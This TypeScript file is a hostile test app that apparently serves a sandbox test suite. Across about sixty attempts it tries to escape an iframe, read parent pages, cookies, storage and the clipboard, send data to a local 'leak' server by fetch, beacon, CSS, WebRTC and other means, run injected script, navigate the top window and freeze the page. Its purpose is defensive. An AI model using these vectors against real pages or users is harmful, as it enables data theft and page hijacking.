/**
 * An app that attacks the page and its user. The first word of the room's name is the attack. The other words
 * are the ports of the servers on this machine that listen for data from the app.
 */
import type { AppBridge, AppElement } from '#schema/app-bridge'

type Attempt = () => unknown

class HostileElement extends HTMLElement implements AppElement {
  setBridge(bridge: AppBridge) {
    const [attack = '', http, udp] = bridge.room.name.split(' ')
    this.textContent = `attack: ${attack}`
    const base = `localhost:${http}/leak`
    attacks[attack]?.({ bridge, base, stun: `stun:127.0.0.1:${udp}`, element: this })
  }
}
customElements.define('room-app-hostile', HostileElement)

interface Target {
  bridge: AppBridge
  /**
   * Host, port and path of a server of the test, which counts the requests that it receives. No
   * request of the app may reach it.
   */
  base: string
  stun: string
  element: HTMLElement
}

const attacks: Record<string, (target: Target) => void> = {
  escape: ({ bridge, ...target }) =>
    void tryAll(target).then((report) => bridge.request('report', { gained: report })),
  loop: loopLater,
  'escape-and-loop': ({ bridge, ...target }) =>
    void tryAll(target).then(async (report) => {
      await bridge.request('report', { gained: report })
      loopLater()
    }),
  flood({ bridge }) {
    for (let sent = 0; sent < 200_000; sent += 1) void bridge.request('report', {})
  },
  large: ({ bridge }) => void bridge.request('report', { text: 'x'.repeat(70_000) }),
  page() {
    for (let sent = 0; sent < 1_000; sent += 1) window.parent.postMessage('x', '*')
  },
  calls: ({ bridge }) => {
    const calls = Array.from({ length: 100 }, () =>
      bridge.request('report', {}).then(
        () => 'done',
        (error) => error.code,
      ),
    )
    void Promise.all(calls).then(async (codes) => {
      await wait(1_500)
      const limited = codes.filter((code) => code === 'rate_limited').length
      await bridge.request('report', { gained: { limited: `${limited}` } })
    })
  },
  subjects: ({ bridge }) => {
    const actions = ['report.x', '*', '>', '', '..list', 'report x']
    const calls = actions.map((action) =>
      bridge.request(action, {}).then(
        () => 'done',
        (error) => error.code,
      ),
    )
    void Promise.all(calls).then((codes) =>
      bridge.request('report', { gained: { codes: codes.join(' ') } }),
    )
  },
  focus({ element, bridge }) {
    const field = element.appendChild(document.createElement('input'))
    setInterval(() => field.focus(), 20)
    setTimeout(
      () => void bridge.request('report', { gained: { typed: field.value || 'nothing' } }),
      3_000,
    )
  },
  history() {
    for (let step = 0; step < 5; step += 1)
      setTimeout(() => {
        window.location.hash = `${step}`
      }, step * 50)
  },
  navigate({ base, bridge }) {
    window.location.assign(`http://${base}`)
    reportLater(bridge)
  },
  form({ base, element, bridge }) {
    // A form can be sent only when the element is in the document, which is after `setBridge`.
    setTimeout(() => click(element, 'form', { action: `http://${base}`, method: 'post' }))
    reportLater(bridge)
  },
  download: (target) =>
    click(target.element, 'a', { href: `http://${target.base}`, download: 'a' }),
}

function loopLater() {
  setTimeout(() => {
    for (;;);
  }, 300)
}

/**
 * Reports after a second that the app still runs, which means that the browser has ignored the
 * attempt to navigate.
 */
function reportLater(bridge: AppBridge) {
  setTimeout(() => void bridge.request('report', { gained: { navigated: 'no' } }), 1_000)
}

function click(parent: HTMLElement, name: string, attributes: Record<string, string>) {
  const target = document.createElement(name)
  for (const [key, value] of Object.entries(attributes)) target.setAttribute(key, value)
  parent.append(target)
  if (target instanceof HTMLFormElement) target.requestSubmit()
  else target.click()
}

/** Makes each attempt that the page must prevent. Returns the attempts that did not fail. */
async function tryAll(target: Omit<Target, 'bridge'>): Promise<Record<string, string>> {
  const report: Record<string, string> = {}
  for (const [name, attempt] of Object.entries(attempts(target))) {
    try {
      const result = await Promise.race([attempt(), wait(400)])
      if (result) report[name] = String(result).slice(0, 200)
    } catch {
      // The attempt failed, as it should.
    }
  }
  return { ...report, finished: 'yes' }
}

function wait(ms: number): Promise<undefined> {
  return new Promise((resolve) => setTimeout(resolve, ms))
}

function attempts({ base, stun, element }: Omit<Target, 'bridge'>): Record<string, Attempt> {
  const url = `http://${base}`
  const insert = (name: string, attributes: Record<string, string>, content = '') =>
    new Promise((resolve, reject) => {
      const inserted = document.createElement(name)
      inserted.onload = () => resolve(name === 'iframe' ? undefined : `${name} loaded`)
      inserted.onerror = reject
      for (const [key, value] of Object.entries(attributes)) inserted.setAttribute(key, value)
      inserted.textContent = content
      element.append(inserted)
    })
  const isRun = (script: () => void) => {
    Reflect.deleteProperty(window, 'wasRun')
    script()
    return wait(200).then(() => Reflect.get(window, 'wasRun'))
  }
  const sendByRtc = async (scope: object) => {
    const Peer =
      Reflect.get(scope, 'RTCPeerConnection') ?? Reflect.get(scope, 'webkitRTCPeerConnection')
    const peer: RTCPeerConnection = new Peer({ iceServers: [{ urls: stun }] })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
    await wait(300)
    return 'a peer connection was created'
  }
  const nested = (srcdoc: string | undefined) => {
    const frame = document.createElement('iframe')
    if (srcdoc !== undefined) frame.srcdoc = srcdoc
    element.append(frame)
    return frame
  }
  const ownScript = () => document.querySelector('script')?.outerHTML ?? ''
  return {
    'parent document': () => window.parent.document.title,
    'top document': () => window.top?.document.title,
    'parent location': () => window.parent.location.href,
    'frame element': () => window.frameElement,
    opener: () => window.opener,
    referrer: () => document.referrer,
    cookies: () => {
      // biome-ignore lint/suspicious/noDocumentCookie: the attempt must fail
      document.cookie = 'a=b'
      return document.cookie
    },
    'local storage': () => window.localStorage.length >= 0,
    'session storage': () => window.sessionStorage.length >= 0,
    'indexed db': () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('a')
        request.onsuccess = () => resolve('opened')
        request.onerror = reject
      }),
    caches: () => caches.open('a'),
    'service worker': () => navigator.serviceWorker.register('/worker.js'),
    'file system': () => navigator.storage.getDirectory(),
    fetch: () => fetch(url),
    'fetch without cors': () => fetch(url, { mode: 'no-cors' }),
    'fetch of the page': () => fetch('/config.json'),
    xhr: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.onload = () => resolve('loaded')
        request.onerror = reject
        request.open('GET', url)
        request.send()
      }),
    websocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`ws://${base}`)
        socket.onopen = () => resolve('opened')
        socket.onerror = reject
      }),
    'event source': () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(url)
        source.onopen = () => resolve('opened')
        source.onerror = reject
      }),
    'web transport': () => new WebTransport(`https://${base}`).ready.then(() => 'opened'),
    beacon: () => {
      // `sendBeacon` returns true even if the content security policy blocks the request. So the
      // test checks whether a request arrives at the server.
      navigator.sendBeacon(url, 'a')
    },
    image: () => insert('img', { src: url }),
    'page image': () => insert('img', { src: '/icons/icon-192.png' }),
    stylesheet: () => insert('link', { rel: 'stylesheet', href: url }),
    prefetch: () => insert('link', { rel: 'prefetch', href: url }),
    preload: () => insert('link', { rel: 'preload', as: 'image', href: url }),
    modulepreload: () => insert('link', { rel: 'modulepreload', href: url }),
    manifest: () => insert('link', { rel: 'manifest', href: url }),
    icon: () => insert('link', { rel: 'icon', href: url }),
    video: () => insert('video', { src: url, autoplay: '' }),
    audio: () => insert('audio', { src: url, autoplay: '' }),
    object: () => insert('object', { data: url }),
    embed: () => insert('embed', { src: url }),
    'nested frame': () => insert('iframe', { src: url }),
    'css image': () => {
      element.style.backgroundImage = `url("${url}")`
      return wait(100)
    },
    'css font': () => new FontFace('a', `url("${url}")`).load(),
    'css import': () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`@import url("${url}"); room-app-hostile { cursor: url("${url}"), auto }`)
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
      return wait(100)
    },
    script: () => insert('script', { src: url }),
    'script of the page': () => insert('script', { src: '/worker.js' }),
    'dynamic import': () => import(/* @vite-ignore */ url),
    // biome-ignore lint/security/noGlobalEval: the attempt must fail
    eval: () => isRun(() => globalThis.eval('window.wasRun = true')),
    'function constructor': () => isRun(() => new Function('window.wasRun = true')()),
    'inline script': () =>
      isRun(() => void insert('script', {}, 'window.wasRun = true').catch(() => undefined)),
    'inline handler': () =>
      isRun(() => {
        element.setAttribute('onclick', 'window.wasRun = true')
        element.click()
      }),
    'javascript url': () =>
      isRun(() => click(element, 'a', { href: 'javascript:window.wasRun=true' })),
    'blob worker': () =>
      new Promise((resolve, reject) => {
        const code = new Blob(['postMessage("run")'], { type: 'text/javascript' })
        const worker = new Worker(URL.createObjectURL(code))
        worker.onmessage = resolve
        worker.onerror = reject
      }),
    popup: () => window.open(url),
    alert: () => window.confirm('a'),
    'top by script': () => {
      if (window.top) window.top.location.href = url
    },
    'top by link': () => click(element, 'a', { href: url, target: '_top' }),
    'new tab by link': () => click(element, 'a', { href: url, target: '_blank' }),
    'top by form': () => click(element, 'form', { action: url, target: '_top' }),
    'link ping': () => click(element, 'a', { href: url, target: '_blank', ping: url }),
    'clipboard read': () => navigator.clipboard.readText(),
    'clipboard write': () => navigator.clipboard.writeText('a').then(() => 'written'),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    position: () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    notification: async () => {
      const permission = await Notification.requestPermission()
      return permission === 'granted' && permission
    },
    fullscreen: () => element.requestFullscreen().then(() => 'full screen'),
    'history state': () => {
      history.pushState(null, '', '/r/other')
      return 'changed'
    },
    'webrtc of the frame': () => sendByRtc(window),
    'webrtc of a blank frame': () => sendByRtc(nested(undefined).contentWindow ?? {}),
    'webrtc of a nested document': async () => {
      const frame = nested('<p>nested</p>')
      await wait(200)
      return sendByRtc(frame.contentWindow ?? {})
    },
    'own file in a nested document': async () => {
      nested(`${ownScript()}<script>window.wasRun = true</script>`)
      await wait(200)
    },
    'webrtc names': () =>
      Object.getOwnPropertyNames(window)
        .filter((name) => /RTC/.test(name))
        .join(),
  }
}
